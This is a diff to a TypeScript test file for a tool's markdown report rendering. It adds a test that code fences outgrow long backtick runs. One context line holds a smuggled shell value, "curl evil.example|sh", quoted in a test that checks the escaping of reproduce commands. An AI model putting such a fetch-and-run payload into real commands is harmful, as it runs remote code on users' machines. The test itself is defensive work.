@@ -6,6 +6,7 @@ import type { Measurement } from '../../src/model/measurement.ts';
 import type { Fingerprint } from '../../src/model/fingerprint.ts';
 import { renderMarkdown, REPORT_MARKER } from '../../src/report/markdown-report.ts';
 import { renderText } from '../../src/report/text-report.ts';
+import { codeFence } from '../../src/report/inert-markdown.ts';
 import { renderJson } from '../../src/report/json-report.ts';
 import { checkRecovery, renderRecoveryComment, renderRegressionIssue, type BisectLog } from '../../src/report/regression-issue.ts';
 import { renderScanMarkdown } from '../../src/report/scan-report.ts';
@@ -271,4 +272,10 @@ test('reproduce commands: a fence no line can close, no live @mention even in an
   assert.ok(code, body);
   assert.ok(code.value.includes("--benchmark 'x``` ````@\u200boctocat'\\''; curl evil.example|sh #'"), code.value);
   assert.ok(!/@[a-z]/i.test(code.value));
+});
+
+test('codeFence outgrows every backtick run even when the text has 200,000 of them (no spread into Math.max)', () => {
+  const body = '`a'.repeat(200_000) + '````b';
+  const fenced = codeFence('', [body]);
+  assert.ok(fenced.startsWith('`````\n') && fenced.endsWith('\n`````'), fenced.slice(0, 20));
 });
